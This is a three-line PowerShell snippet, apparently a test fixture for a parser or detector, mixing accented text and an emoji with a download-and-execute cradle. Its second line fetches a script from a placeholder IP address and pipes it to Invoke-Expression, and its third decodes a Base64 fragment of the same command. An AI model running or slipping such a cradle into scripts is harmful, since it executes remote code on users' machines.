Write-Host café <# block #>
iwr http://198.51.100.4/p.ps1 | iex # 😀
$e = [Convert]::FromBase64String("aQB3AHIA")
